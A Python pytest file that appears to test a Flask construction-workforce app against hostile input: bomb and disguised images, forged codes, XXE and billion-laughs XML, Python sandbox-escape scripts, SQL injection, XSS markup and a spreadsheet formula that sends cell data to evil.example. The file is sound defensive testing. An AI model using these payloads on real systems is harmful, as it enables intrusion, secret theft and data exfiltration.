"""Hostile input beyond tests/api/test_hostile_input.py (random JSON and bytes) and the
unit tests of the identifiers: what a careless or malicious client sends through the
real endpoints — disguised and bomb images, near-miss identifiers, impossible
coordinates, forged and replayed construction codes, malicious BPMN, and markup or SQL
in names that the pages and exports then show. Each is refused with a named field (or
shown harmlessly), never a 500, and a refused request leaves nothing behind."""
import io
import struct
import time
import zlib
from datetime import date, timedelta

import pytest
import time_machine
from flask import Flask
from sqlalchemy import func, select

from app.extensions import db
from app.models import Enterprise, Person, ProcessDefinition, Project, Registration, SignIn
from app.models.types import utcnow
from app.services import construction_code
from tests.support.factories import auth, log_in, token
from tests.support.identifiers import make_id_number, make_uscc
from tests.support.images import make_id_image
from tests.support.site import code_of, confirmed, officer, set_point, site_wgs84
from tests.support.staffing import staffing

PROBLEM = "application/problem+json"


def count(model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


# --- images -------------------------------------------------------------------------------

def _png_claiming(width: int, height: int) -> bytes:
    """A tiny, well-formed PNG whose header claims width × height (a decompression bomb:
    decoding it would need width × height × 3 bytes)."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 64, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def _zip_of_zeros() -> bytes:
    import zipfile
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("id.jpg", b"\0" * (20 * 1024 * 1024))  # 20 MB of zeros in ~20 KB
    return out.getvalue()


def _registration(client, tok, front: bytes, front_name="front.jpg", **fields):
    data = {"name": "李建华", "id_number": make_id_number(birth=date(1988, 3, 14), seq=21), "agree_notice": "true",
            "id_front": (io.BytesIO(front), front_name), "id_back": (io.BytesIO(make_id_image("JPEG")), "back.jpg"),
            **fields}
    return client.post("/api/v1/me/registration", data=data, headers=auth(tok), content_type="multipart/form-data")


@pytest.mark.parametrize("label, payload, name, message", [
    ("a PDF named .jpg", PDF, "front.jpg", "图片无法识别，请重新拍摄上传"),
    ("a zip bomb named .jpg", _zip_of_zeros(), "front.jpg", "图片无法识别，请重新拍摄上传"),
    ("a PNG claiming 100000 × 100000 pixels", _png_claiming(100_000, 100_000), "front.png", None),
    ("a PNG claiming 9000 × 200 pixels", _png_claiming(9000, 200), "front.png", None),
    ("a JPEG cut in half", make_id_image("JPEG", size=(800, 500))[:3000], "front.jpg", "图片无法识别，请重新拍摄上传"),
    ("an SVG with script", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "front.png",
     "图片无法识别，请重新拍摄上传"),
])
def test_disguised_and_bomb_images_are_refused_quickly_and_nothing_is_kept(app, client, world, label, payload,
                                                                           name, message):
    tok = token(client, world.user())
    started = time.monotonic()
    response = _registration(client, tok, payload, name)
    assert time.monotonic() - started < 5, f"{label}: decoding took too long"
    assert response.status_code == 422 and response.mimetype == PROBLEM, (label, response.get_data(as_text=True))
    error = response.get_json()["errors"]["id_front"]
    assert error == message if message else error in ("图片尺寸过大，请压缩后重新上传", "图片无法识别，请重新拍摄上传")
    assert count(Registration) == 0
    import os
    folder = os.path.join(app.config["UPLOAD_FOLDER"], "registrations")
    assert not os.path.isdir(folder) or os.listdir(folder) == []


def test_a_request_over_the_upload_limit_is_413_before_anything_is_read(app, client, world):
    tok = token(client, world.user())
    huge = b"\xff\xd8\xff" + b"\0" * (app.config["MAX_CONTENT_LENGTH"] + 1024)
    response = _registration(client, tok, huge)
    assert response.status_code == 413 and response.mimetype == PROBLEM
    assert count(Registration) == 0


# --- identifiers ----------------------------------------------------------------------------

GOOD_ID = make_id_number(birth=date(1988, 3, 14), seq=21)
X_ID = next(n for seq in range(1000) if (n := make_id_number(birth=date(1979, 5, 2), seq=seq)).endswith("X"))


def _one_digit_off(number: str) -> str:
    d = number[10]
    return number[:10] + str((int(d) + 1) % 10) + number[11:]


def _wrong_check(number: str) -> str:
    check = number[-1]
    return number[:-1] + ("0" if check != "0" else "1")


FULL_WIDTH = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")


@pytest.mark.parametrize("raw, accepted_as", [
    (_one_digit_off(GOOD_ID), None),
    (_wrong_check(GOOD_ID), None),
    (GOOD_ID[:-1], None),
    (GOOD_ID + "0", None),
    (GOOD_ID[:6] + "19880230" + GOOD_ID[14:], None),  # 30 February
    (GOOD_ID.replace("3", "٣"), None),  # Arabic-Indic digits are digits to Python, not to GB 11643
    ("' OR '1'='1", None),
    (X_ID.lower(), X_ID),  # lower-case x is normalised
    (X_ID.translate(FULL_WIDTH), X_ID),  # so is full-width input from a Chinese IME
    (f" {GOOD_ID[:6]} {GOOD_ID[6:14]} {GOOD_ID[14:]} ", GOOD_ID),
])
def test_id_number_near_misses_through_the_api(app, client, world, raw, accepted_as):
    tok = token(client, world.user())
    response = _registration(client, tok, make_id_image("PNG"), "front.png", id_number=raw)
    if accepted_as is None:
        assert response.status_code == 422 and "id_number" in response.get_json()["errors"], response.get_json()
        assert count(Registration) == 0
    else:
        assert response.status_code == 201, response.get_json()
        assert db.session.scalar(select(Registration.id_number)) == accepted_as


def test_hiring_by_a_near_miss_id_number_finds_nobody(app, client, world):
    from tests.support.people import verified_person
    s = staffing(world, workers=0)
    person = verified_person(world, "周明", id_number=GOOD_ID)
    tok = token(client, s.gc.hr)
    url = f"/api/v1/enterprises/{s.gc.enterprise.id}/employments"
    for raw in (_one_digit_off(GOOD_ID), _wrong_check(GOOD_ID)):
        response = client.post(url, json={"name": person.name, "id_number": raw}, headers=auth(tok))
        assert response.status_code == 422, response.get_json()
    assert client.post(url, json={"name": person.name, "id_number": GOOD_ID.translate(FULL_WIDTH)},
                       headers=auth(tok)).status_code == 201


GOOD_USCC = make_uscc(77)


@pytest.mark.parametrize("raw, accepted_as", [
    (GOOD_USCC[:-1] + ("0" if GOOD_USCC[-1] != "0" else "1"), None),  # wrong check character
    (GOOD_USCC[:9] + ("1" if GOOD_USCC[9] != "1" else "2") + GOOD_USCC[10:], None),  # one character off
    (GOOD_USCC[:-2] + "I" + GOOD_USCC[-1], None),  # I, O, S, V, Z are not in the alphabet
    (GOOD_USCC[:17], None),
    ("91310115" + "٣" * 10, None),
    ("'; DROP TABLE enterprise; --", None),
    (GOOD_USCC.lower(), GOOD_USCC),
    (GOOD_USCC.translate(str.maketrans("0123456789ABCDEFGHJKLMNPQRTUWXY",
                                       "０１２３４５６７８９ＡＢＣＤＥＦＧＨＪＫＬＭＮＰＱＲＴＵＷＸＹ")), GOOD_USCC),
])
def test_uscc_near_misses_through_the_api(app, client, world, raw, accepted_as):
    tok = token(client, world.admin())
    legal = world.user()
    response = client.post("/api/v1/enterprises", json={"name": "近似代码建设有限公司", "uscc": raw,
                                                        "legal_rep_username": legal.username}, headers=auth(tok))
    if accepted_as is None:
        assert response.status_code == 422 and "uscc" in response.get_json()["errors"], response.get_json()
        assert count(Enterprise) == 0
    else:
        assert response.status_code == 201, response.get_json()
        assert db.session.scalar(select(Enterprise.uscc)) == accepted_as


# --- coordinates ----------------------------------------------------------------------------

BAD_COORDINATES = [
    ({"lng": 181, "lat": 31.2}, "lng"), ({"lng": -180.0001, "lat": 31.2}, "lng"),
    ({"lng": 121.4, "lat": 90.5}, "lat"), ({"lng": 121.4, "lat": -91}, "lat"),
    ({"lng": "abc", "lat": 31.2}, "lng"), ({"lng": 121.4, "lat": "31.2北"}, "lat"),
    ({"lng": True, "lat": 31.2}, "lng"), ({"lng": [], "lat": 31.2}, "lng"), ({"lng": [121.4], "lat": 31.2}, "lng"),
    ({"lng": 121.4, "lat": [31.2, 31.3]}, "lat"),
    ({"lng": {"x": 1}, "lat": 31.2}, "lng"), ({"lng": 1e400, "lat": 31.2}, "lng"),
    ({"lat": 31.2}, "lng"), ({"lng": 121.4, "lat": None}, "lat"),
]
RAW_NONFINITE = ['{"lng": NaN, "lat": 31.2}', '{"lng": 121.4, "lat": Infinity}', '{"lng": -Infinity, "lat": 31.2}']


@pytest.fixture
def s(world):
    return staffing(world, workers=2)


def test_impossible_coordinates_never_move_the_sign_in_point(client, s):
    set_point(s.project, s.gc.pm)
    before = (s.project.signin_lng, s.project.signin_lat, s.project.signin_radius_m)
    tok, url = token(client, s.gc.pm), f"/api/v1/projects/{s.project.id}/signin-location"
    for body, field in BAD_COORDINATES:
        response = client.put(url, json={**body, "radius_m": 300, "coord_system": "gcj02"}, headers=auth(tok))
        assert response.status_code == 422 and field in response.get_json()["errors"], (body, response.get_json())
    for raw in RAW_NONFINITE:
        response = client.put(url, data=raw, content_type="application/json", headers=auth(tok))
        assert response.status_code in (400, 422), (raw, response.get_json())
    for radius in (49, 5001, -1, "300m", 1e9):
        response = client.put(url, json={"lng": 121.4, "lat": 31.2, "radius_m": radius}, headers=auth(tok))
        assert response.status_code == 422 and "radius_m" in response.get_json()["errors"], radius
    response = client.put(url, json={"lng": 121.4, "lat": 31.2, "coord_system": "bd09"}, headers=auth(tok))
    assert response.status_code == 422 and "coord_system" in response.get_json()["errors"]
    db.session.expire_all()
    project = db.session.get(Project, s.project.id)
    assert (project.signin_lng, project.signin_lat, project.signin_radius_m) == before


def test_impossible_coordinates_never_sign_anyone_in(client, s):
    set_point(s.project, s.gc.pm)
    worker, clerk = s.gc.workers
    confirmed(s.project, worker)
    officer(s, clerk)
    tok = token(client, worker.user)
    body = {"project_id": s.project.id, "officer_token": code_of(clerk), "coord_system": "wgs84"}
    for coordinates, field in BAD_COORDINATES:
        response = client.post("/api/v1/me/signins", json={**body, **coordinates}, headers=auth(tok))
        assert response.status_code == 422 and field in response.get_json()["errors"], (coordinates, response.get_json())
    for raw in RAW_NONFINITE:
        text = raw[:-1] + f', "project_id": {s.project.id}, "officer_token": "{body["officer_token"]}"}}'
        response = client.post("/api/v1/me/signins", data=text, content_type="application/json", headers=auth(tok))
        assert response.status_code in (400, 422), (raw, response.get_json())
    assert count(SignIn) == 0
    lng, lat = site_wgs84()
    ok = client.post("/api/v1/me/signins", json={**body, "lng": lng, "lat": lat}, headers=auth(tok))
    assert ok.status_code == 201 and count(SignIn) == 1  # the same request with real coordinates works


# --- construction codes ---------------------------------------------------------------------

def _code_signed_with(secret: str, person_id: int) -> str:
    other = Flask("another_deployment")
    other.config["SECRET_KEY"] = secret
    with other.app_context():
        return construction_code.issue_personal_code(type("P", (), {"id": person_id})()).token


def test_forged_confused_and_replayed_codes(app, client, s):
    worker, other = s.gc.workers
    confirmed(s.project, worker)
    pm = token(client, s.gc.pm)
    url = f"/api/v1/projects/{s.project.id}/scans"

    def scan(tok, purpose="entry"):
        return client.post(url, json={"token": tok, "purpose": purpose}, headers=auth(pm))

    genuine = code_of(worker)
    payload, _, signature = genuine.rpartition(".")
    refused = {
        "signed by another deployment's key": _code_signed_with("not-our-secret", worker.id),
        "a site code shown as a personal code": construction_code.site_code(s.project),
        "another person's signature on this payload": payload + "." + code_of(other).rpartition(".")[2],
        "no signature": payload,
        "empty signature": payload + ".",
        "padding and whitespace": " " + genuine + "==",
        "SQL": "' OR 1=1 --",
        "markup": "<img src=x onerror=alert(1)>",
        "a very long token": "A" * 10_000,
    }
    for label, tok in refused.items():
        response = scan(tok)
        assert response.status_code == 422, (label, response.status_code, response.get_data(as_text=True)[:200])
        assert "<img" not in response.get_data(as_text=True)
    # Replays: the same genuine code again and again records one entry, one punch.
    results = [scan(genuine).get_json()["result"] for _ in range(3)]
    assert results == ["entered", "already_entered", "already_entered"]
    punches = [scan(genuine, "clock_in").status_code for _ in range(3)]
    assert punches == [200, 200, 200]
    from app.models import Attendance
    assert db.session.scalar(select(func.count()).select_from(Attendance).where(Attendance.person_id == worker.id)) == 1
    # A code captured and replayed after its two minutes is refused.
    with time_machine.travel(utcnow() + timedelta(seconds=121)):
        assert scan(genuine, "clock_out").status_code == 422


def test_a_site_code_cannot_stand_in_for_an_officer_and_a_personal_code_not_for_a_site(client, s):
    set_point(s.project, s.gc.pm)
    worker, clerk = s.gc.workers
    confirmed(s.project, worker)
    officer(s, clerk)
    tok = token(client, worker.user)
    lng, lat = site_wgs84()
    as_officer = client.post("/api/v1/me/signins", json={
        "project_id": s.project.id, "officer_token": construction_code.site_code(s.project), "lng": lng, "lat": lat},
        headers=auth(tok))
    assert as_officer.status_code == 422 and "officer_token" in as_officer.get_json()["errors"]
    as_site = client.post("/api/v1/me/attendance", json={"site_token": code_of(clerk), "kind": "clock_in",
                                                         "lng": lng, "lat": lat}, headers=auth(tok))
    assert as_site.status_code == 422 and "site_token" in as_site.get_json()["errors"]
    assert count(SignIn) == 0


# --- BPMN -------------------------------------------------------------------------------------

BPMN_NS = 'xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"'


def _deploy(client, tok, xml):
    data = xml if isinstance(xml, bytes) else xml.encode("utf-8")
    return client.post("/api/v1/process-definitions", data=data, content_type="application/xml", headers=auth(tok))


def _scripted(script: str) -> str:
    from tests.workflow.test_definitions import scripted
    return scripted(script=script)


@pytest.fixture
def analyst(client, world):
    return token(client, world.user(platform_role="analyst"))


def test_xml_external_entities_are_never_resolved(client, analyst, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    for entity in (f'<!ENTITY x SYSTEM "file://{secret}">', f'<!ENTITY % p SYSTEM "file://{secret}"> %p;',
                   '<!ENTITY x SYSTEM "http://127.0.0.1:9/steal">'):
        xml = (f'<?xml version="1.0"?><!DOCTYPE d [{entity}]>'
               f'<bpmn:definitions {BPMN_NS} id="d"><bpmn:process id="xxe" name="&x;" isExecutable="true">'
               '<bpmn:startEvent id="s"/></bpmn:process></bpmn:definitions>')
        started = time.monotonic()
        response = _deploy(client, analyst, xml)
        assert time.monotonic() - started < 5
        assert response.status_code == 422, response.get_data(as_text=True)[:300]
        assert "TOP-SECRET-CONTENT" not in response.get_data(as_text=True)
    assert db.session.scalar(select(ProcessDefinition.id).where(ProcessDefinition.key == "xxe")) is None


def test_billion_laughs_is_refused_at_once(client, analyst):
    entities = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    xml = (f'<?xml version="1.0"?><!DOCTYPE d [{entities}]>'
           f'<bpmn:definitions {BPMN_NS}><bpmn:process id="laughs" name="&l9;"/></bpmn:definitions>')
    started = time.monotonic()
    response = _deploy(client, analyst, xml)
    assert time.monotonic() - started < 5 and response.status_code == 422
    assert db.session.scalar(select(ProcessDefinition.id).where(ProcessDefinition.key == "laughs")) is None


def test_a_huge_diagram_is_refused_without_a_server_error(app, client, analyst):
    limit = app.config["MAX_CONTENT_LENGTH"]
    huge = _scripted("total = 1").replace("</bpmn:definitions>", "<!--" + "x" * (limit + 10) + "--></bpmn:definitions>")
    response = _deploy(client, analyst, huge)
    assert response.status_code == 413 and response.mimetype == PROBLEM
    deep = f'<bpmn:definitions {BPMN_NS}>' + "<a>" * 100_000 + "</a>" * 100_000 + "</bpmn:definitions>"
    response = _deploy(client, analyst, deep)
    assert response.status_code == 422, response.status_code
    assert db.session.scalar(select(ProcessDefinition.id).where(ProcessDefinition.key == "scripted")) is None


@pytest.mark.parametrize("script", [
    # str.format walks attributes inside the string, out of the syntax check's sight:
    # this one reached the application's SECRET_KEY before the sandbox refused .format
    'x = "{0.__self__.__loader__.create_module.__globals__[sys].modules[flask].current_app.config[SECRET_KEY]}"'
    '.format(len)',
    'x = str.format("{0.__class__}", 1)',
    'f = "{0.__class__.__mro__}".format_map',
    'x = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"]',
    'x = (lambda: 0).__globals__',
    'x = __builtins__',
    'x = len.__self__',
    'x = f"{len.__self__}"',
    'def f(__x=1):\n    return __x\nx = f()',
    'x = eval("1")',
    'x = __import__("os").system("id")',
])
def test_sandbox_escapes_are_refused_at_deploy(client, analyst, script):
    response = _deploy(client, analyst, _scripted(script))
    assert response.status_code == 422, (script, response.get_data(as_text=True)[:300])
    assert db.session.scalar(select(ProcessDefinition.id).where(ProcessDefinition.key == "scripted")) is None


# --- markup and SQL in names ------------------------------------------------------------------

MARKUP = '<img src=x onerror="alert(1)">'
SCRIPT = "</title><script>alert('x')</script>"
SQL = "Robert'); DROP TABLE person;--"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_markup_and_sql_in_names_are_stored_literally_and_shown_escaped(app, client, world):
    s = staffing(world, workers=2)
    worker, second = s.gc.workers
    worker.name, worker.user.name = MARKUP, MARKUP
    second.name = SQL
    s.gc.enterprise.name = SCRIPT
    s.project.name = FORMULA + SCRIPT
    db.session.commit()
    for person in (worker, second):
        allocation = confirmed(s.project, person, status="on_site")
        allocation.entered_at = utcnow()
    db.session.commit()
    # Through the API the names come back as data, exactly as stored.
    tok = token(client, s.gc.hr)
    listed = client.get(f"/api/v1/enterprises/{s.gc.enterprise.id}/employments", headers=auth(tok)).get_json()
    assert {MARKUP, SQL} <= {row["name"] for row in listed["items"]}
    # Searching with SQL finds nothing rather than everything.
    injected = client.get(f"/api/v1/enterprises/{s.gc.enterprise.id}/employments",
                          query_string={"name": "' OR '1'='1"}, headers=auth(tok)).get_json()
    assert injected["items"] == []
    tasks = client.get("/api/v1/tasks", query_string={"q": "%' OR 1=1 --"}, headers=auth(tok))
    assert tasks.status_code == 200 and tasks.get_json()["items"] == []

    browser = app.test_client()
    log_in(browser, s.gc.pm)
    pages = [f"/enterprises/{s.gc.enterprise.id}", f"/projects/{s.project.id}", f"/projects/{s.project.id}/site/",
             f"/projects/{s.project.id}/site/records?kind=entries"]
    log_in(hr := app.test_client(), s.gc.hr)
    hr_pages = [f"/enterprises/{s.gc.enterprise.id}/staff/", f"/enterprises/{s.gc.enterprise.id}"]
    for who, path in [(browser, p) for p in pages] + [(hr, p) for p in hr_pages]:
        response = who.get(path)
        assert response.status_code == 200, path
        html = response.get_data(as_text=True)
        for raw in (MARKUP, SCRIPT):
            assert raw not in html, (path, raw)
        assert "&lt;script&gt;" in html or "&lt;img" in html, path  # the names are shown, escaped
    assert count(Person) >= 4  # DROP TABLE did nothing

    # The CSV export: a name that is a formula is written as text, never as a formula.
    csv_text = browser.get(f"/projects/{s.project.id}/site/records.csv?kind=entries").get_data(as_text=True)
    rows = [line for line in csv_text.splitlines()[1:] if line]
    assert rows and not any(line.lstrip("\ufeff").startswith(("=", "+", "-", "@")) for line in rows)
    evil = s.gc.workers[0]
    evil.name = FORMULA
    db.session.commit()
    csv_text = browser.get(f"/projects/{s.project.id}/site/records.csv?kind=entries").get_data(as_text=True)
    assert "'=HYPERLINK" in csv_text and "\n=HYPERLINK" not in csv_text and ',=HYPERLINK' not in csv_text

